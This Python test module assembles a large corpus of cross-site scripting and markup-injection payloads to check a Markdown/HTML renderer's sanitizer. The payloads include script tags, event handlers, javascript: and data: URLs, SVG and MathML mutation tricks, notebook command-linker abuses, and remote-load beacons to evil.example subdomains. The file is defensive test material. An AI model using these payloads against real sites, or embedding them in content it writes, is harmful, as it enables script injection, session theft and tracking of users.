"""What a hostile model, tool, file or notebook would write: markup that runs, loads, links or commands.

Whatever runs sets `window.__pwned` or opens a dialog; whatever loads asks a host below `evil.example`, whose label says
what it came from. The first lists follow OWASP's cheat sheet of filter evasion and DOMPurify's own tests.
"""

from typing import Final

HOST: Final = "evil.example"
P: Final = "window.__pwned=1"

SCRIPTS: Final = (
    f"<script>{P}</script>",
    f"<SCRIPT>{P}</SCRIPT>",
    f"<scr<script>ipt>{P}</scr</script>ipt>",
    f"</script><script>{P}</script>",
    f"<script\n>{P}</script\n>",
    f"<script/x>{P}</script>",
    f"<<script>{P}//<</script>",
    f"<script>{P}",
    f"<script src=data:text/javascript,{P}></script>",
    f'<script type="module">{P}</script>',
    f'<noscript><p title="</noscript><script>{P}</script>">',
    f"<template><script>{P}</script></template>",
    f"<xmp><script>{P}</script></xmp>",
    f"<plaintext><script>{P}</script>",
    f"<style><!--</style><script>{P}//--></script>",
    f"<!--><script>{P}</script-->",
    f"<!-- --!><script>{P}</script> -->",
    f"<![CDATA[<script>{P}</script>]]>",
    f"<?xml version='1.0'?><script>{P}</script>",
    f"&lt;script&gt;{P}&lt;/script&gt;",
    f"\u003cscript\u003e{P}\u003c/script\u003e",
    f"\uff1cscript\uff1e{P}\uff1c/script\uff1e",
    f"<\u017fcript>{P}</\u017fcript>",
    f"<script\x00>{P}</script>",
    f"\ufeff<script>{P}</script>",
    f"+ADw-script+AD4-{P}+ADw-/script+AD4-",
)
HANDLERS: Final = (
    f"<img src=x onerror={P}>",
    f'<img src=x onerror="{P}"//',
    f"<img/src=x/onerror={P}>",
    f"<img src=x:x onerror\x0b={P}>",
    f'<img src onerror /" \'"= alt={P}//">',
    f'<IMG """><SCRIPT>{P}</SCRIPT>">',
    f"<body onload={P}>",
    f"<body onpageshow={P}>",
    f"<frameset onload={P}>",
    f"<input autofocus onfocus={P}>",
    f"<select autofocus onfocus={P}>",
    f"<textarea autofocus onfocus={P}></textarea>",
    f"<button autofocus onfocus={P}>press</button>",
    f"<div contenteditable autofocus onfocus={P}>x</div>",
    f"<details open ontoggle={P}><summary>x</summary></details>",
    f"<video src=x onerror={P}></video>",
    f"<video><source onerror={P}></video>",
    f"<audio src=x onerror={P}>",
    f"<marquee onstart={P}>x</marquee>",
    f"<object data=x onerror={P}></object>",
    f"<div onmouseover={P} style=position:fixed;inset:0>x</div>",
    f"<div onpointerenter={P} style=position:fixed;inset:0>x</div>",
    f"<a onclick={P} onfocus={P} onmouseover={P} href=#>x</a>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={P}>x</b>",
    f"<b style='transition:color 1s' ontransitionend={P}>x</b>",
    f"<form><button formaction=javascript:{P}>x</button></form>",
    f"<isindex type=image src=1 onerror={P}>",
    f"<x onbeforematch={P} hidden=until-found>x</x>",
    f"<div popover onbeforetoggle={P} id=p></div><button popovertarget=p>x</button>",
    f'"><img src=x onerror={P}>',
    f"'><img src=x onerror={P}>",
    f"`><img src=x onerror={P}>",
    f'" onmouseover="{P}" autofocus onfocus="{P}" x="',
    f"' onmouseover='{P}' autofocus onfocus='{P}' x='",
    f"</textarea><img src=x onerror={P}>",
    f"</title><img src=x onerror={P}>",
    f"</style><img src=x onerror={P}>",
    f"</pre></code></div><img src=x onerror={P}>",
    f"]]><img src=x onerror={P}>",
    f"--><img src=x onerror={P}>",
)
ADDRESSES: Final = (
    f"javascript:{P}",
    f"JaVaScRiPt:{P}",
    f" javascript:{P}",
    f"\x01javascript:{P}",
    f"java\tscript:{P}",
    f"java\nscript:{P}",
    f"java&#x09;script:{P}",
    f"java&NewLine;script:{P}",
    f"&#106;&#97;&#118;&#97;script:{P}",
    f"&#x6A&#x61&#x76&#x61script:{P}",
    f"javascript&colon;{P}",
    "javascript:%77indow.__pwned=1",
    f"javascript://{HOST}/%0a{P}",
    f"vbscript:{P}",
    f"livescript:{P}",
    f"data:text/html,<script>top.{P.removeprefix('window.')}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{P}'/>",
    "data:application/xhtml+xml,<html/>",
    "blob:http://127.0.0.1/00000000-0000-0000-0000-000000000000",
    "file:///etc/passwd",
    "view-source:http://127.0.0.1/",
    "jar:http://127.0.0.1!/x",
    "intent://x#Intent;end",
    f"http:javascript:{P}",
    f"https://javascript:{P}@{HOST}/",
)
SVG: Final = (
    f"<svg onload={P}>",
    f"<svg/onload={P}>",
    f"<svg><script>{P}</script></svg>",
    f"<svg><script href=data:,{P} /></svg>",
    f"<svg><script>{P.replace('=', '&#61;')}</script></svg>",
    f"<svg><animate onbegin={P} attributeName=x dur=1s>",
    f"<svg><set onbegin={P} attributeName=x>",
    f"<svg><a xlink:href=javascript:{P}><text x=20 y=20>x</text></a></svg>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{P} /><a id=x><rect width=100 height=100 /></a>",
    "<svg><foreignObject><iframe srcdoc='<script>top.__pwned=1</script>'></iframe></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='x' onerror='{P}'/></svg>#x\"></svg>",
    f"<svg><style><img src=x onerror={P}></style></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={P}>">',
    f"<svg><desc><noscript></noscript></desc><script>{P}</script></svg>",
    f"<svg><title><style><img src=x onerror={P}></style></title></svg>",
)
MUTATION: Final = (
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={P}&gt;">',
    f"<math><mtext><table><mglyph><style><math><img src onerror={P}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={P}>",
    f'<math><mi//xlink:href="data:x,<script>{P}</script>">',
    f"<math href=javascript:{P}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{P}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={P}></annotation-xml></math>",
    f'<math><style><!--</style><a title="--><img src=x onerror={P}>">',
    f'<noembed><img title="</noembed><img src=x onerror={P}>"></noembed>',
    f'<noframes><img title="</noframes><img src=x onerror={P}>">',
    f"<select><template><img src=x onerror={P}></template></select>",
    f"<table><caption><svg><title><style></table><img src=x onerror={P}>",
    f'<p><svg><style><p title="</style><img src=x onerror={P}>">',
    f"<option><style></option></select><img src=x onerror={P}></style>",
    f'<textarea><img title="</textarea><img src=x onerror={P}>">',
    f"<listing>&lt;img src=x onerror={P}&gt;</listing>",
    f'<a href="`"><img alt="`><img src=x onerror={P}//">',
    "<div id=__proto__><div id=innerHTML name=innerHTML><form id=document><input name=body>",
    f"<form id=createElement><img name=cookie><a id=defaultView href=javascript:{P}>",
    '<iframe srcdoc="<script>top.__pwned=1</script>"></iframe>',
    '<iframe src="javascript:top.__pwned=1"></iframe>',
    f'<embed src="javascript:{P}">',
    f'<object data="javascript:{P}"></object>',
    f'<object><param name=src value="javascript:{P}"></object>',
    f'<meta http-equiv=refresh content="0;url=javascript:{P}">',
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>top.__pwned=1</script>">',
    f'<base href="javascript:{P}//">',
    f'<link rel=import href="data:text/html,<script>{P}</script>">',
    f'<link rel=stylesheet href="javascript:{P}">',
    f"<style>body{{background:url(javascript:{P})}}</style>",
    f'<div style="width:expression({P})">x</div>',
    '<div style="-moz-binding:url(data:text/xml,x)">x</div>',
    f"<portal src=javascript:{P}></portal>",
    f"<a ping=http://ping.{HOST}/ href=javascript:{P}>x</a>",
)
COMMANDS: Final = (
    "<button data-commandlinker-command='apputils:run-first-enabled' data-commandlinker-args='{}'>Run</button>",
    "<a data-commandlinker-command='docmanager:new-untitled' data-commandlinker-args='{\"type\":\"file\"}'>open</a>",
    "[open](#){data-commandlinker-command=docmanager:new-untitled}",
    "<a href='command-linker:docmanager:new-untitled'>open</a>",
    "[open](command-linker:docmanager:new-untitled)",
    "<div class='jp-Dialog' style='position:fixed;inset:0'><button class='jp-mod-accept'>OK</button></div>",
    "<form action='/api/shutdown' method=post><button autofocus>x</button></form>",
)
MARKDOWN: Final = (
    f"[a](javascript:{P})",
    f"[a](<javascript:{P}>)",
    f"[a](  javascript:{P} )",
    f"[a](java\\script:{P})",
    f"[a](javascript&colon;{P})",
    f"[a](&#x6A;avascript:{P})",
    f"[a](jav&#x0A;ascript:{P})",
    f'[a](javascript:{P} "title" onclick={P})',
    f'[a](https://{HOST}" onmouseover="{P})',
    f'[a](https://{HOST} "x" onmouseover="{P}")',
    f'![a](https://img-break.{HOST}/" onerror="{P})',
    f"![a](javascript:{P})",
    f'![a" onerror="{P}](x)',
    f"[a]\n\n[a]: javascript:{P}",
    f"[a][b]\n\n[b]: <javascript:{P}> 'onclick={P}'",
    f"<javascript:{P}>",
    f"<vbscript:{P}>",
    f"<data:text/html,<script>{P}</script>>",
    f'<https://{HOST}/"onmouseover="{P}>',
    f'https://{HOST}/"onmouseover={P}//',
    f"www.{HOST}/<img/src=x/onerror={P}>",
    f'me@{HOST}"onmouseover={P}',
    f"# <img src=x onerror={P}>",
    f"<img src=x onerror={P}>\n===",
    f"# x {{onclick={P}}}",
    f"text[^1]\n\n[^1]: <script>{P}</script> [a](javascript:{P})",
    f"[^<img src=x onerror={P}>]: x",
    f"```<img src=x onerror={P}>\nx\n```",
    f"```html onload={P}\n<script>{P}</script>\n```",
    f'```"><script>{P}</script>\nx\n```',
    f"```{{.python onclick={P}}}\nx\n```",
    f'``` mermaid\ngraph TD; A[<img src=x onerror={P}>]; click A href "javascript:{P}"\n```',
    f"```mermaid\n%%{{init:{{'securityLevel':'loose'}}}}%%\ngraph TD; A--><script>{P}</script>\n```",
    f"| <img src=x onerror={P}> | b |\n|---|:--:|\n| <script>{P}</script> | [a](javascript:{P}) |",
    f"- [ ] <input onfocus={P} autofocus>\n- [x] <script>{P}</script>",
    f"> <script>{P}</script>\n> > <img src=x onerror={P}>",
    f"*<img src=x* onerror={P}>*",
    f"`<img src=x onerror={P}>`",
    f"<div markdown=1>\n\n[a](javascript:{P})\n\n</div>",
    f"$\\href{{javascript:{P}}}{{x}}$ $$\\unicode{{<img src=x onerror={P}>}}$$",
    f"$\\style{{background:url(https://tex.{HOST}/)}}{{x}}$ $\\includegraphics{{https://tex.{HOST}/a.png}}$",
    "\\(\\require{html}\\class{jp-Dialog}{x}\\)",
    f"\x1b]8;;javascript:{P}\x07click\x1b]8;;\x07",
    f"\x1b[31m<script>{P}</script>\x1b[0m",
    f"\x9b31m<img src=x onerror={P}>",
    f"\u202e<script>{P}</script>\u202c",
)
REMOTE: Final = (
    f"<img src=http://img.{HOST}/a.png>",
    f"<img src=//img2.{HOST}/a.png>",
    f"<img src=x srcset='http://srcset.{HOST}/a.png 1x'>",
    f"<picture><source srcset=http://picture.{HOST}/a.png><img></picture>",
    f"<div style='background:url(http://css.{HOST}/a.png)'>x</div>",
    f"<style>*{{background:url(http://style.{HOST}/a.png)}}</style>",
    f"<style>@import 'http://import.{HOST}/a.css';</style>",
    f"<style>@font-face{{font-family:x;src:url(http://font.{HOST}/a)}}*{{font-family:x}}</style>",
    f"<link rel=stylesheet href=http://link.{HOST}/a.css>",
    f"<link rel=icon href=http://icon.{HOST}/a.ico>",
    f"<link rel=dns-prefetch href=http://prefetch.{HOST}/>",
    f"<link rel=preconnect href=http://preconnect.{HOST}/>",
    f"<link rel=preload as=image href=http://preload.{HOST}/a.png>",
    f"<link rel=prerender href=http://prerender.{HOST}/>",
    f"<script src=http://script.{HOST}/a.js></script>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["http://rules.{HOST}/"]}}]}}</script>',
    f"<audio autoplay src=http://audio.{HOST}/a.mp3>",
    f"<video autoplay src=http://video.{HOST}/a.mp4 poster=http://poster.{HOST}/a.png></video>",
    f"<video><track default src=http://track.{HOST}/a.vtt></video>",
    f"<iframe src=http://frame.{HOST}/></iframe>",
    f"<embed src=http://embed.{HOST}/a>",
    f"<object data=http://object.{HOST}/a></object>",
    f"<svg><image href=http://svgimage.{HOST}/a.png /></svg>",
    f"<svg><use href=http://svguse.{HOST}/a.svg#x /></svg>",
    f"<svg><feImage href=http://feimage.{HOST}/a.png /></svg>",
    f"<svg><style>@import 'http://svgstyle.{HOST}/a.css';</style></svg>",
    f"<body background=http://body.{HOST}/a.png>",
    f"<table background=http://table.{HOST}/a.png><tr><td>x</table>",
    f"<input type=image src=http://input.{HOST}/a.png>",
    f"<meta http-equiv=refresh content='0;url=http://refresh.{HOST}/'>",
    f"<base href=http://base.{HOST}/><img src=a.png>",
    f"<form action=http://form.{HOST}/><input autofocus><button>x</button></form>",
    f"<a href=http://ahref.{HOST}/ ping=http://ping.{HOST}/>x</a>",
    f"![a](http://md.{HOST}/a.png)",
    f'![a](https://mds.{HOST}/a.png "title")',
    f"![a](//mdrel.{HOST}/a.png)",
    f"![a][pic]\n\n[pic]: http://mdref.{HOST}/a.png",
    f"[![a](http://mdlinked.{HOST}/a.png)](http://mdlink.{HOST}/)",
    f"[a](http://mdonly.{HOST}/)",
    f"<http://auto.{HOST}/>",
    f"http://bare.{HOST}/path?q=1",
    f"www.{HOST}",
    f"$\\href{{http://tex.{HOST}/}}{{x}}$",
    f'```mermaid\ngraph TD; A-->B; click A "http://mermaid.{HOST}/"\n```',
    f"<math><mglyph src=http://mglyph.{HOST}/a.png /></math>",
    f"data:text/css,@import 'http://datacss.{HOST}/';",
)
CORPUS: Final = (*SCRIPTS, *HANDLERS, *SVG, *MUTATION, *COMMANDS, *MARKDOWN, *REMOTE)
"""Everything but the addresses, which are put where addresses stand."""


def marker(number: int) -> str:
    """Returns a word that says which attack a text comes from, so that a test knows that it was on the page."""
    return f"attack-{number:03}"


def placed(number: int, attack: str) -> str:
    """Returns a Markdown text with the attack in every place that Markdown has."""
    cell = attack.replace("\n", " ").replace("|", "\\|")
    line = attack.replace("\n", " ")
    return "\n\n".join(
        (
            f"{marker(number)} {line}",
            attack,
            f"## {line}",
            "\n".join(f"> {part}" for part in attack.split("\n")),
            f"- {line}\n  1. {line}",
            f"| {cell} | b |\n|---|---|\n| {cell} | {cell} |",
            f"```{line.replace('`', '')}\n{attack}\n```",
            f"[{line}](https://{HOST}/{number}) ![{line}](https://{HOST}/{number}.png)",
            f"**{line}** _{line}_ ~~{line}~~ `{line}`",
        )
    )


def addressed(number: int, address: str) -> str:
    """Returns a Markdown text with the address in every place that takes one."""
    return "\n\n".join(
        (
            f"{marker(number)} {address}",
            f"[a]({address}) [b](<{address}>) ![c]({address}) ![d](<{address}>)",
            f"[e][{number}] ![f][{number}]\n\n[{number}]: {address}",
            f"<{address}>",
            f'<a href="{address}">g</a> <img src="{address}"> <iframe src="{address}"></iframe>',
            f'<form action="{address}"><button formaction="{address}">h</button></form>',
            f'<svg><a xlink:href="{address}"><text>i</text></a></svg> <math href="{address}">j</math>',
        )
    )


def texts() -> list[str]:
    """Returns one Markdown text an attack, each with its marker."""
    made = [placed(number, attack) for number, attack in enumerate(CORPUS)]
    return [*made, *(addressed(len(made) + number, address) for number, address in enumerate(ADDRESSES))]


def raw() -> list[str]:
    """Returns the attacks as they are, in the order of `texts`."""
    return [*CORPUS, *ADDRESSES]
